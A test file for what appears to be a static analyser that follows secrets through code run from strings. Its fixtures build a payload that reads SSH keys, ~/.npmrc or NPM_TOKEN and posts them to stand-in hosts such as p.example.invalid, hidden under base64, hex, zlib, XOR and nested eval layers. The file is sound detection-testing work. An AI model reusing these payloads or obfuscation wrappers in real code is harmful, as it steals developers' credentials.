import { describe, expect, it } from "vitest";
import { analyze, flowSummary } from "./helpers.js";

const PAYLOAD = "const k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\nrequire('https').request({ hostname: 'p.example.invalid', method: 'POST' }).end(k);";

describe("code run from strings", () => {
  it("eval of base64-decoded code: facts at the eval line, an executed obfuscation", async () => {
    const b64 = Buffer.from(PAYLOAD).toString("base64");
    const facts = await analyze({ "index.js": `// loader\neval(Buffer.from('${b64}', 'base64').toString('utf8'));` });
    expect(flowSummary(facts)).toEqual(["ssh-key -> http https://p.example.invalid @index.js:2 (import)"]);
    expect(facts.sources[0]!.location.line).toBe(2);
    expect(facts.obfuscations.map((o) => [o.technique, o.executed, o.location.line])).toEqual([["eval-decoded", true, 2]]);
  });

  it("new Function(hex-decoded body) called with require", async () => {
    const hex = Buffer.from(PAYLOAD).toString("hex");
    const facts = await analyze({ "index.js": `new Function('require', Buffer.from('${hex}', 'hex').toString())(require);` });
    expect(flowSummary(facts)).toEqual(["ssh-key -> http https://p.example.invalid @index.js:1 (import)"]);
  });

  it("Function('return this')() is the global object, unless the built code is strict", async () => {
    const reach = (body: string): string =>
      `const g = Function(${JSON.stringify(body)})();\nconst r = g['process'].mainModule.require;\nconst k = r('fs').readFileSync(r('os').homedir() + '/.npmrc');\nr('https').request({ hostname: 'p.example.invalid', method: 'POST' }).end(k);`;
    expect(flowSummary(await analyze({ "index.js": reach("return this") }))).toEqual(["registry-token -> http https://p.example.invalid @index.js:4 (import)"]);
    expect(flowSummary(await analyze({ "index.js": reach("'use strict'; return this") }))).toEqual([]);
  });

  it("vm.runInNewContext and setTimeout(string)", async () => {
    const vm = await analyze({ "index.js": `require('vm').runInNewContext(${JSON.stringify(PAYLOAD)}, { require });` });
    expect(vm.flows).toHaveLength(1);
    const timer = await analyze({ "index.js": `setTimeout(${JSON.stringify(PAYLOAD)}, 10);` });
    expect(timer.flows).toHaveLength(1);
  });

  it("nested layers: base64 of zlib of base64", async () => {
    const inner = Buffer.from(PAYLOAD).toString("base64");
    const layer = require("node:zlib").deflateSync(Buffer.from(`eval(Buffer.from('${inner}','base64').toString())`)).toString("base64");
    const facts = await analyze({ "index.js": `eval(require('zlib').inflateSync(Buffer.from('${layer}', 'base64')).toString());` });
    expect(flowSummary(facts)).toEqual(["ssh-key -> http https://p.example.invalid @index.js:1 (import)"]);
  });

  it("XOR-decoded code built in a loop", async () => {
    const codes = [...Buffer.from(PAYLOAD)].map((b) => b ^ 7).join(",");
    const facts = await analyze({ "index.js": `const b = [${codes}];\nlet s = '';\nfor (let i = 0; i < b.length; i++) s += String.fromCharCode(b[i] ^ 7);\neval(s);` });
    expect(flowSummary(facts)).toEqual(["ssh-key -> http https://p.example.invalid @index.js:4 (import)"]);
  });

  it("a literal string run as code is analysed but is not obfuscation", async () => {
    const facts = await analyze({ "index.js": "var g = Function('return this')(); eval('fetch(\\'https://x.example.invalid\\', { body: process.env.NPM_TOKEN })');" });
    expect(facts.obfuscations).toEqual([]);
    expect(facts.flows.map((f) => f.source.kind)).toEqual(["env-secret"]);
  });

  it("eval of something that cannot be decoded is eval-dynamic", async () => {
    const facts = await analyze({ "index.js": "eval(process.argv[2]);" });
    expect(facts.obfuscations.map((o) => [o.technique, o.executed])).toEqual([["eval-dynamic", true]]);
  });

  it("layers that only eval the next one are peeled, however many", async () => {
    let code = "fetch('https://deep.example.invalid', { body: process.env.NPM_TOKEN });";
    for (let i = 0; i < 30; i++) code = `eval(atob(${JSON.stringify(Buffer.from(code).toString("base64"))}));`;
    expect((await analyze({ "index.js": code })).flows).toHaveLength(1);
  });

  it("stops at a nesting depth (eval of eval of …, each layer with code of its own)", async () => {
    let code = "fetch('https://deep.example.invalid', { body: process.env.NPM_TOKEN });";
    for (let i = 0; i < 8; i++) code = `var k = ${i}; eval(atob(${JSON.stringify(Buffer.from(code).toString("base64"))}));`;
    const facts = await analyze({ "index.js": code });
    expect(facts.flows).toEqual([]);
    expect([...new Set(facts.obfuscations.map((o) => o.technique))]).toEqual(["eval-decoded"]);
    // Three layers down the same payload is still followed.
    let shallow = "fetch('https://deep.example.invalid', { body: process.env.NPM_TOKEN });";
    for (let i = 0; i < 3; i++) shallow = `var k = ${i}; eval(atob(${JSON.stringify(Buffer.from(shallow).toString("base64"))}));`;
    expect((await analyze({ "index.js": shallow })).flows).toHaveLength(1);
  });

  it("decoded code that does not parse is a parse problem, not a crash", async () => {
    const facts = await analyze({ "index.js": "eval(atob('" + Buffer.from("this is ((( not code").toString("base64") + "'));" });
    expect(facts.parseProblems.map((p) => p.file)).toEqual(["index.js#eval@1"]);
  });
});
